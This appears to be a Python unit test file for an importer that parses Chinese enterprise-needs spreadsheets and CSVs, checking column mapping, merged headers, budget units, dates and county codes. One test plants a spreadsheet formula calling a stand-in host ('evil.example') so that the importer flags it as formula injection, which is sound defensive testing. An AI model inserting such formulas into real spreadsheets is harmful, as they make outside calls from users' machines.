"""Layouts bureaus really use: other orders, other words, other shapes; each with its answer."""

from __future__ import annotations

from datetime import date

import openpyxl

from tests.unit.needlists.reading import checked, filled, rows_of, saved, text_table, workbook
from tests.unit.sheets.builders import xls

USUAL = ("action", "company", "title", "budget_min_wan", "budget_max_wan", "deadline", "phone")


def test_columns_in_any_order_under_other_names_and_no_title_row() -> None:
    data = workbook(
        [
            (
                "联系方式",
                "对接人",
                "项目名称",
                "单位名称",
                "属地",
                "行业类别",
                "投资额（万元）",
                "截止日期",
                "痛点",
            ),
            (
                "13800000001",
                "张工",
                "视觉质检",
                "甲机械有限公司",
                "寿光",
                "造纸",
                80,
                "2026年9月底",
                "漏检",
            ),
            (
                "0536-8000002",
                "李工",
                "排产",
                "乙食品有限公司",
                "青州市",
                "食品",
                "50-60",
                "2026-12",
                "手排",
            ),
        ]
    )
    keys = (*USUAL, "industry_code", "region_code", "warnings")
    assert rows_of(data, *keys) == [
        (
            "import",
            "甲机械有限公司",
            "视觉质检",
            80,
            80,
            "2026-09-30",
            "13800000001",
            "22",
            "370783",
            [],
        ),
        (
            "import",
            "乙食品有限公司",
            "排产",
            50,
            60,
            "2026-12-31",
            "0536-8000002",
            "14",
            "370781",
            [],
        ),
    ]


def test_a_semicolon_csv_with_a_byte_order_mark_and_budgets_in_yuan() -> None:
    data = text_table(
        [
            ("企业全称", "技术需求名称", "拟投入资金（元）", "期望完成日期", "手机号码"),
            ("甲公司", "能耗管理", "500000", "2026/10/15", "138-0000-0001"),
            ("乙公司", "安全巡检", "30万", "2026.11", "+86 13800000002"),
            ("丙公司", "追溯", "面议", "尽快", ""),
        ],
        "utf-8-sig",
        ";",
    )
    assert rows_of(data, "excel_row", *USUAL, "budget_type", "warnings", filename="a.csv") == [
        (
            2,
            "import",
            "甲公司",
            "能耗管理",
            50,
            50,
            "2026-10-15",
            "13800000001",
            "exact",
            ["budget_converted_from_yuan"],
        ),
        (3, "import", "乙公司", "安全巡检", 30, 30, "2026-11-30", "13800000002", "exact", []),
        (
            4,
            "import",
            "丙公司",
            "追溯",
            None,
            None,
            None,
            None,
            "negotiable",
            ["missing_phone", "deadline_vague"],
        ),
    ]


def test_a_tab_separated_file_in_utf_16() -> None:
    data = text_table(
        [
            ("No.", "公司", "课题名称", "预算", "工期", "电话"),
            ("1", "甲公司", "数字孪生", "约120万元", "6个月", "0633-8000001"),
        ],
        "utf-16",
        "\t",
    )
    assert rows_of(data, *USUAL, "budget_type", "warnings", filename="a.tsv") == [
        (
            "import",
            "甲公司",
            "数字孪生",
            120,
            120,
            None,
            "0633-8000001",
            "approx",
            ["deadline_relative"],
        )
    ]


def test_several_sheets_of_data_beside_instructions_with_an_example() -> None:
    book = openpyxl.Workbook()
    header = ("企业名称", "需求名称", "预算（万元）", "联系电话")
    filled(book.active, [header, ("寿光甲公司", "质检", "50万", "13800000001")]).title = "寿光市"
    filled(
        book.create_sheet("青州市"),
        [("青州市需求清单",), header, ("青州乙公司", "排产", 60, "13800000002")],
    )
    filled(book.create_sheet("填写示例"), [header, ("某某公司", "示例需求", "100", "13800000009")])
    filled(book.create_sheet("汇总"), [header, ("寿光甲公司", "质检", "50万", "13800000001")])
    hidden = filled(book.create_sheet("底稿"), [header, ("旧公司", "旧需求", "1", "13800000008")])
    hidden.sheet_state = "hidden"
    data = saved(book)
    assert rows_of(data, "sheet", "excel_row", "action", "company", "warnings") == [
        ("寿光市", 2, "import", "寿光甲公司", ["region_from_sheet"]),
        ("青州市", 3, "import", "青州乙公司", ["region_from_sheet"]),
        ("汇总", 2, "skip_duplicate", "寿光甲公司", ["duplicate_of:寿光市!row2"]),
    ]
    assert dict(checked(data).ignored) == {"填写示例": "instructions", "底稿": "hidden"}


def test_two_header_rows_whose_groups_complete_short_names() -> None:
    data = workbook(
        [
            ("2026年智能化改造需求汇总表",),
            (
                "序号",
                "企业情况",
                None,
                None,
                "需求情况",
                None,
                "资金预算（万元）",
                None,
                "联系人",
                None,
            ),
            (None, "名称", "行业", "所在地", "名称", "内容", "最低", "最高", "姓名", "电话"),
            (1, "甲公司", "家具", "寿光市", "板材优化", "利用率低", 20, 50, "张工", "13800000001"),
            (2, "乙公司", "玻璃", "临朐县", "窑炉优化", "能耗高", None, 80, "李工", "13800000002"),
            (3, "丙公司", "水泥", "诸城市", "配料", "波动", 30, "/", "王工", "13800000003"),
        ],
        ["A1:J1", "A2:A3", "B2:D2", "E2:F2", "G2:H2", "I2:J2"],
    )
    keys = ("excel_row", *USUAL, "budget_type", "industry_code", "region_code")
    assert rows_of(data, *keys) == [
        (4, "import", "甲公司", "板材优化", 20, 50, None, "13800000001", "range", "21", "370783"),
        (5, "import", "乙公司", "窑炉优化", None, 80, None, "13800000002", "max", "30", "370724"),
        (6, "import", "丙公司", "配料", 30, None, None, "13800000003", "min", "30", "370782"),
    ]


def test_two_header_rows_without_merges_as_csv_leaves_them() -> None:
    data = text_table(
        [
            ("序号", "企业基本情况", "", "需求基本情况", "", "联系人", ""),
            ("", "名称", "所属县区", "名称", "内容", "姓名", "手机"),
            ("1", "甲公司", "坊子区", "视觉检测", "漏检", "张工", "13800000001"),
        ],
        "gbk",
    )
    keys = ("excel_row", "company", "title", "region_code", "phone")
    assert rows_of(data, *keys, filename="a.csv") == [
        (3, "甲公司", "视觉检测", "370704", "13800000001")
    ]


def test_without_titles_they_are_taken_from_the_descriptions() -> None:
    data = workbook(
        [
            ("企业", "需求内容", "联系人及电话"),
            (
                "甲公司",
                "想做轮胎外观检测。现在靠人工目检，漏检率较高，影响出口。",
                "张工 13800000001",
            ),
            ("乙公司", "排产靠经验，急单多", "李经理（0536-8000002）"),
        ]
    )
    assert rows_of(data, "action", "title", "phone", "warnings") == [
        ("import", "想做轮胎外观检测", "13800000001", ["title_from_description"]),
        ("import", "排产靠经验，急单多", "0536-8000002", ["title_from_description"]),
    ]
    assert [row.value("contact") for row in checked(data).rows] == ["张工", "李经理"]


def test_real_dates_serials_and_number_formats_mean_what_they_show() -> None:
    book = openpyxl.Workbook()
    sheet = filled(
        book.active,
        [
            ("企业名称", "需求名称", "预算资金", "完成时间"),
            ("甲公司", "质检", 50, date(2026, 9, 1)),
            ("乙公司", "排产", 350000, date(2026, 9, 1)),
            ("丙公司", "追溯", 80, 46326),
        ],
    )
    sheet["C2"].number_format = '0"万元"'
    sheet["C3"].number_format = '"¥"#,##0'
    sheet["D3"].number_format = 'yyyy"年"m"月"'
    assert rows_of(saved(book), "budget_max_wan", "deadline", "warnings") == [
        (50, "2026-09-01", []),
        (35, "2026-09-30", ["budget_converted_from_yuan"]),
        (80, "2026-10-31", ["budget_unit_assumed_wan", "deadline_excel_serial"]),
    ]


def test_a_company_merged_over_its_needs_belongs_to_each_of_them() -> None:
    data = workbook(
        [
            ("序号", "企业名称", "县区", "需求名称", "预算（万元）", "联系电话"),
            (1, "甲公司", "昌乐县", "质检", 50, "13800000001"),
            (2, None, None, "排产", 60, None),
            (3, "乙公司", "昌邑市", "追溯", 70, "13800000003"),
        ],
        ["B2:B3", "C2:C3", "F2:F3"],
    )
    assert rows_of(data, "action", "company", "title", "region_code", "phone") == [
        ("import", "甲公司", "质检", "370725", "13800000001"),
        ("import", "甲公司", "排产", "370725", "13800000001"),
        ("import", "乙公司", "追溯", "370786", "13800000003"),
    ]


def test_sections_totals_page_headers_numbering_and_signatures_are_notes() -> None:
    header = ("序号", "企业名称", "需求名称", "预算", "联系电话")
    data = workbook(
        [
            ("单位：万元",),
            header,
            ("1", "2", "3", "4", "5"),
            ("示例", "某某公司", "示例需求", "100", "13800000000"),
            ("一、寿光市",),
            (1, "甲公司", "质检", 50, "13800000001"),
            (None, "小计", None, 50, None),
            header,
            ("（二）诸城市",),
            (2, "乙公司", "排产", 60, "13800000002"),
            (3, None, None, None, None),
            (4, "丙公司", None, None, None),
            (5, None, None, None, None),
            ("总计", None, None, 110, None),
            ("填报人：张三", None, "审核人：李四", None, "日期：2026年6月4日"),
            ("注：以上由企业自报。",),
        ]
    )
    keys = ("excel_row", "action", "region_code", "warnings")
    assert rows_of(data, *keys) == [
        (3, "ignore_note", None, []),
        (4, "ignore_note", None, []),
        (5, "ignore_note", None, []),
        (6, "import", "370783", ["region_from_section", "budget_unit_assumed_wan"]),
        (7, "ignore_note", None, []),
        (8, "ignore_note", None, []),
        (9, "ignore_note", None, []),
        (10, "import", "370782", ["region_from_section", "budget_unit_assumed_wan"]),
        (11, "ignore_blank", None, []),
        (12, "reject", "370782", ["missing_required:需求名称", "missing_phone"]),
        (14, "ignore_note", None, []),
        (15, "ignore_note", None, []),
        (16, "ignore_note", None, []),
    ]


def test_the_county_is_found_in_an_address_and_credit_codes_are_checked() -> None:
    data = workbook(
        [
            ("统一社会信用代码", "企业名称", "企业地址", "需求名称"),
            ("91370700MA3C0H0Q0Y", "甲公司", "山东省潍坊市青州市黄楼街道某路1号", "质检"),
            ("123", "乙公司", "荣成市某路2号", "排产"),
            (None, "丙公司", "某工业园", "追溯"),
        ]
    )
    found = checked(data).rows
    assert [row.value("region") for row in found] == ["370781", "371082", None]
    assert [row.value("uscc") for row in found][1:] == [None, None]
    assert "uscc_invalid" in found[1].warnings


def test_columns_whose_header_says_nothing_are_known_by_their_content() -> None:
    data = text_table(
        [
            ("企业名称", "需求名称", "列3", "列4", ""),
            ("甲公司", "质检", "13800000001", "50万元", "2026-09-30"),
            ("乙公司", "排产", "0536-8000002", "面议", "2026年底"),
            ("丙公司", "追溯", "13800000003", "30-50万", "尽快"),
        ]
    )
    check = checked(data, "a.csv")
    assert {name: check.mapping.told_by[name] for name in ("phone", "budget", "deadline")} == {
        "phone": "content",
        "budget": "content",
        "deadline": "content",
    }
    assert rows_of(data, "phone", "budget_max_wan", "deadline", filename="a.csv") == [
        ("13800000001", 50, "2026-09-30"),
        ("0536-8000002", None, "2026-12-31"),
        ("13800000003", 50, None),
    ]


def test_headers_with_hints_stars_and_line_breaks() -> None:
    data = workbook(
        [
            (
                "*企业名称（必填，与营业执照一致）",
                "所属县（市、区）",
                "需 求\n名 称",
                "需求描述（请说明现状、痛点，不超过500字）",
                "预算金额\n（单位：元）",
                "期望完成时间（如：2026年9月）",
                "联系人手机号码★",
            ),
            ("甲公司", "滕州市", "质检", "漏检", "1,200,000", "2026年9月", "13800000001"),
        ]
    )
    assert rows_of(data, *USUAL, "region_code") == [
        ("import", "甲公司", "质检", 120, 120, "2026-09-30", "13800000001", "370481")
    ]


def test_a_list_of_one_company_names_it_above_the_table() -> None:
    data = workbook(
        [
            ("智能化改造需求申报表",),
            ("填报单位：寿光某机械有限公司　　　填报日期：2026年5月20日　　　金额单位：万元",),
            ("序号", "需求名称", "需求描述", "预算", "联系人", "联系电话"),
            (1, "质检", "漏检", 50, "张工", "13800000001"),
            (2, "排产", "急单", 60, "张工", "13800000001"),
        ],
        ["A1:F1", "A2:F2"],
    )
    assert rows_of(data, "action", "company", "title") == [
        ("import", "寿光某机械有限公司", "质检"),
        ("import", "寿光某机械有限公司", "排产"),
    ]
    assert checked(data, as_of=None).as_of == date(2026, 5, 20)


def test_functional_zones_stay_open_and_short_county_names_are_completed() -> None:
    data = workbook(
        [
            ("威海市企业需求清单",),
            ("企业名称", "所属区市", "所属行业", "技术需求"),
            ("甲渔具公司", "环翠区", "渔具", "碳布裁切"),
            ("乙船舶公司", "荣成", "海工装备", "焊接"),
            ("丙电子公司", "高区", "打印机", "装配检测"),
            ("丁食品公司", "经区", "海产品加工", "分拣"),
            ("戊房车公司", "文登区", "房车", "排产"),
            ("己公司", "市直", "软件", "数据治理"),
            ("庚公司", "威海市", "医药健康", "追溯"),
        ]
    )
    assert rows_of(data, "region_code", "industry_code", "warnings") == [
        ("371002", "24", []),
        ("371082", "37", []),
        (None, "39", ["region_unknown:高区"]),
        (None, "13", ["region_unknown:经区"]),
        ("371003", "36", []),
        (None, None, ["industry_outside_41", "region_unknown:市直"]),
        ("371000", None, ["industry_ambiguous:27|35", "region_not_county:威海市"]),
    ]


def test_a_countys_own_list_needs_no_column_for_the_county() -> None:
    header = ("企业名称", "需求名称")
    above = ("填报单位：寿光市工业和信息化局",)
    assert rows_of(workbook([above, header, ("甲公司", "质检")]), "region_code", "warnings") == [
        ("370783", ["region_from_heading"])
    ]
    several = ("寿光市、青州市需求清单",)
    assert rows_of(workbook([several, header, ("甲公司", "质检")]), "region_code") == [(None,)]


def test_a_company_name_proves_its_county_only_in_full() -> None:
    rows = [("企业名称", "需求名称"), ("寿光市甲机械厂", "质检"), ("寿光乙机械厂", "排产")]
    found = checked(workbook(rows)).rows
    assert [(row.value("region"), row.warnings) for row in found] == [
        ("370783", ("region_from_company",)),
        (None, ()),
    ]
    assert found[1].fields["region"].candidates == ("370783",)


def test_places_of_the_same_name_are_told_apart_by_the_list_they_stand_in() -> None:
    rows = [("企业名称", "区县", "需求名称"), ("甲公司", "市中区", "质检")]
    assert rows_of(workbook([("枣庄市需求清单",), *rows]), "region_code") == [("370402",)]
    assert rows_of(workbook(rows), "region_code", "warnings") == [
        (None, ["region_ambiguous:370103|370402"])
    ]


def test_industry_columns_may_hold_codes() -> None:
    codes = ["C34", "3484", "26 化学原料和化学制品制造业", "制造业-专用设备制造业", "65", "F51"]
    data = workbook(
        [
            ("企业", "行业代码", "需求名称"),
            *((f"{i}号公司", code, "质检") for i, code in enumerate(codes)),
        ]
    )
    assert [code for (code,) in rows_of(data, "industry_code")] == [
        "34",
        "34",
        "26",
        "35",
        None,
        None,
    ]


def test_disclosure_scene_size_and_cooperation_are_read() -> None:
    data = workbook(
        [
            (
                "企业名称",
                "企业规模",
                "需求名称",
                "应用场景",
                "合作方式",
                "是否公开",
                "预期目标",
                "备注",
            ),
            (
                "甲公司",
                "中型",
                "质检",
                "在线智能检测",
                "联合研发",
                "否",
                "漏检率低于1%",
                "可现场看",
            ),
            ("乙公司", "规上", "排产", "APS", "揭榜挂帅", "脱敏公开", "", ""),
            ("丙公司", "小型企业", "追溯", "随便写的", "采购", "同意公开", "", ""),
        ]
    )
    names = ("size", "scene", "cooperation", "disclosure", "goal", "remark")
    assert [tuple(row.value(name) for name in names) for row in checked(data).rows] == [
        ("medium", "S24", "joint_rd", "bureau", "漏检率低于1%", "可现场看"),
        (None, "S09", "jiebang", "masked", None, None),
        ("small", None, "purchase", "public", None, None),
    ]


def test_columns_that_only_resemble_a_field_are_left_alone() -> None:
    data = workbook(
        [
            (
                "企业名称",
                "成立时间",
                "注册资本（万元）",
                "年营业收入（万元）",
                "法人代表",
                "法人电话",
                "需求名称",
                "开始时间",
                "完成时间",
                "资金来源",
                "总投资（万元）",
                "责任领导",
                "联系人",
                "联系电话",
            ),
            (
                "甲公司",
                "2001-01-01",
                5000,
                30000,
                "赵总",
                "13800000009",
                "质检",
                "2026-07-01",
                "2026-12-31",
                "自筹",
                90,
                "钱局长",
                "张工",
                "13800000001",
            ),
        ]
    )
    assert rows_of(data, *USUAL) == [
        ("import", "甲公司", "质检", 90, 90, "2026-12-31", "13800000001")
    ]
    assert checked(data).rows[0].value("contact") == "张工"


def test_an_old_xls_is_checked_like_any_other() -> None:
    cells: dict[tuple[int, int], str | float] = {
        (0, 0): "企业名称",
        (0, 1): "需求名称",
        (0, 2): "预算（万元）",
        (0, 3): "完成时间",
        (1, 0): "甲公司",
        (1, 1): "质检",
        (1, 2): 50.0,
        (1, 3): 46295.0,
    }
    assert rows_of(xls(cells), "excel_row", "company", "budget_max_wan", "deadline") == [
        (2, "甲公司", 50, "2026-09-30")
    ]


def test_a_second_table_of_another_form_further_down_is_read_by_its_own_header() -> None:
    data = workbook(
        [
            ("企业名称", "需求名称", "预算（万元）", "联系电话"),
            ("甲公司", "质检", 50, "13800000001"),
            (),
            ("企业名称", "联系电话", "需求名称", "完成时间"),
            ("乙公司", "13800000002", "排产", "2026年底"),
        ]
    )
    assert rows_of(data, "excel_row", "action", "title", "phone", "deadline") == [
        (2, "import", "质检", "13800000001", None),
        (3, "ignore_blank", None, None, None),
        (4, "ignore_note", None, None, None),
        (5, "import", "排产", "13800000002", "2026-12-31"),
    ]


def test_several_columns_of_description_are_joined_under_their_names() -> None:
    data = workbook(
        [
            ("企业名称", "需求名称", "现状", "存在问题", "办公电话", "手机"),
            ("甲公司", "质检", "人工目检", "漏检多", "0536-8000001", "13800000001"),
            ("乙公司", "排产", "手排", None, "0536-8000002", None),
        ]
    )
    found = checked(data).rows
    assert [row.value("description") for row in found] == [
        "现状：人工目检\n存在问题：漏检多",
        "手排",
    ]
    assert [row.value("phone") for row in found] == ["13800000001", "0536-8000002"]
    assert [row.warnings for row in found] == [(), ()]


def test_formulas_are_text_where_they_reach_out_and_their_result_where_they_only_add() -> None:
    book = openpyxl.Workbook()
    sheet = filled(book.active, [("序号", "企业名称", "需求名称", "预算（万元）", "备注")])
    sheet.append(["=ROW()-1", "甲公司", "质检", "=20+30", '=WEBSERVICE("http://evil.example")'])
    sheet.append(["=ROW()-1", '=A1&"公司"', "排产", "40", None])
    assert rows_of(saved(book), "action", "company", "budget_max_wan", "warnings") == [
        ("review", "甲公司", None, ["formula_injection:备注", "formula_injection:预算资金"]),
        ("review", '=A1&"公司"', 40, ["formula_injection:企业名称"]),
    ]


def test_three_header_rows_tied_by_merges_and_a_place_in_two_columns() -> None:
    data = workbook(
        [
            ("2026年需求表",),
            ("序号", "企业", None, None, "需求", None, "资金（万元）", None, None),
            (None, "名称", "地区", None, "名称", "描述", "总投资", "其中", None),
            (None, None, "市", "县", None, None, None, "自筹", "贷款"),
            (1, "甲公司", "潍坊市", "寿光市", "质检", "漏检", 100, 60, 40),
            (2, "乙公司", "淄博市", "高新区", "排产", "急单", "80-90", None, None),
        ],
        ["A2:A4", "B2:D2", "E2:F2", "G2:I2", "B3:B4", "C3:D3", "E3:E4", "F3:F4", "G3:G4", "H3:I3"],
    )
    assert checked(data).mapping.header_rows == (2, 3, 4)
    assert rows_of(data, "company", "title", "budget_max_wan", "region_code", "warnings") == [
        ("甲公司", "质检", 100, "370783", []),
        ("乙公司", "排产", 90, None, ["region_unknown:淄博市高新区"]),
    ]


def test_a_row_under_the_header_that_only_details_a_column_is_a_note() -> None:
    data = text_table(
        [
            ("序号", "企业名称", "需求名称", "投资估算（万元）", "其中：", ""),
            ("", "", "", "", "软件", "硬件"),
            ("1", "甲公司", "质检", "100", "40", "60"),
        ]
    )
    assert rows_of(data, "excel_row", "action", "budget_max_wan", filename="a.csv") == [
        (2, "ignore_note", None),
        (3, "import", 100),
    ]


def test_the_long_form_of_a_province_with_every_usual_column() -> None:
    header = (
        "序号", "企业名称", "统一社会信用代码", "所属县（市、区）", "所属行业（大类）", "主营业务",
        "需求方向", "需求名称", "需求具体描述（500字以内）", "期望解决时间", "拟投入资金（万元）",
        "是否愿意公开发布", "企业联系人", "职务", "手机",
    )  # fmt: skip
    row = (
        1, "某陶瓷有限公司", None, "博山区", "非金属矿物制品业", "日用瓷", "质量检测", "釉面缺陷检测",
        "靠人工", "2027年上半年", "80左右", "脱敏后公开", "李四", "经理", "13800000003、13800000004",
    )  # fmt: skip
    data = workbook([("附件1",), ("企业需求征集表",), header, row])
    assert rows_of(data, *USUAL, "industry_code", "region_code", "warnings") == [
        ("import", "某陶瓷有限公司", "釉面缺陷检测", 80, 80, "2027-06-30", "13800000003", "30", "370304",
         ["phone_several", "deadline_half_year"])
    ]  # fmt: skip
    assert checked(data).rows[0].value("disclosure") == "masked"


def test_a_title_column_of_sentences_is_both_title_and_description() -> None:
    sentence = (
        "希望引进自动导引车实现物料自动配送，减少人工搬运，提高效率，并与现有系统打通，年底前上线。"
    )
    data = workbook(
        [("企业名称", "智能化改造需求"), ("甲公司", sentence), ("乙公司", "焊接机器人")]
    )
    found = checked(data).rows
    assert [(row.title, row.value("description")) for row in found] == [
        ("希望引进自动导引车实现物料自动配送", sentence),
        ("焊接机器人", None),
    ]
    assert found[0].warnings == ("title_shortened",)


def test_filling_in_instructions_below_the_header_are_a_note() -> None:
    data = workbook(
        [
            ("企业名称", "需求名称", "预算（万元）", "完成时间", "联系电话"),
            ("填写营业执照全称", "不超过20字", "数字", "格式：2026-09-30", "手机号"),
            ("甲公司", "质检", 50, "2026-09-30", "13800000001"),
        ]
    )
    assert rows_of(data, "action") == [("ignore_note",), ("import",)]
